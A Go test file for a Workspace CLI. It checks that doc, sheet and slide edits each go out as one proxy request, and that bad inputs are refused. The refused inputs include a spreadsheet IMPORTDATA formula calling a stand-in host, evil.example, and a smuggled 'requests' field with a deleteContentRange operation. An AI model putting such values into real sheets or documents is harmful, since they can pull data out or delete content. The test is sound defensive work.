package cli

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"testing"
)

// A68: a change of a document, a sheet or a slide is one request for one action
// with its own parameters. There is no list of requests that a caller could fill,
// and the cells of a table arrive as they were given.
func TestA68_OneChangeIsOneRequest(t *testing.T) {
	w := newDrafts(t)
	type post struct {
		Action string
		Params map[string]any
	}
	var got []post
	proxy := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		var p post
		if err := json.NewDecoder(r.Body).Decode(&p); err != nil {
			t.Error(err)
		}
		got = append(got, p)
		io.WriteString(rw, `{"success":true,"data":{}}`)
	}))
	t.Cleanup(proxy.Close)
	for _, service := range []string{"DOCS", "SHEETS", "SLIDES"} {
		w.env["GOOGLE_WORKSPACE_"+service+"_PROXY_URL"], w.env["GOOGLE_WORKSPACE_"+service+"_PROXY_TOKEN"] = proxy.URL, "tok"
	}
	for _, c := range []struct {
		argv   []string
		action string
		params map[string]any
	}{
		{[]string{"docs", "replace-text", "D", "--find-text", "{{name}}", "--replace-text", "Ada"}, "replaceText",
			map[string]any{"documentId": "D", "findText": "{{name}}", "replaceText": "Ada"}},
		{[]string{"sheets", "write-range", "S", "B2", "--values", `[["a","b"],["'007","'=1+1"]]`}, "rangeWrite",
			map[string]any{"spreadsheetId": "S", "range": "B2", "values": []any{[]any{"a", "b"}, []any{"'007", "'=1+1"}}}},
		{[]string{"slides", "replace-all-text", "P", "--find-text", "{{name}}", "--replace-text", "Ada"}, "textReplaceAll",
			map[string]any{"presentationId": "P", "findText": "{{name}}", "replaceText": "Ada"}},
	} {
		got = nil
		w.want(0, "", c.argv...)
		if len(got) != 1 || got[0].Action != c.action || !reflect.DeepEqual(got[0].Params, c.params) {
			t.Errorf("%q: %+v", c.argv, got)
		}
	}
	got = nil
	for _, argv := range [][]string{
		{"docs", "replace-text", "--params-json", `{"documentId":"D","findText":"","replaceText":"x"}`},
		{"docs", "replace-text", "--params-json", `{"documentId":"D","findText":"a","replaceText":"x","requests":[{"deleteContentRange":{}}]}`},
		{"sheets", "write-range", "--params-json", `{"spreadsheetId":"S","range":"B2","values":"x"}`},
		{"sheets", "write-range", "--params-json", `{"spreadsheetId":"S","range":"B2","values":[["=IMPORTDATA(\"https://evil.example\")"]]}`},
		{"sheets", "write-range", "--params-json", `{"spreadsheetId":"S","range":"B2","values":[{"a":1}]}`},
	} {
		w.want(4, "", argv...)
	}
	if len(got) > 0 {
		t.Errorf("sent: %+v", got)
	}
}
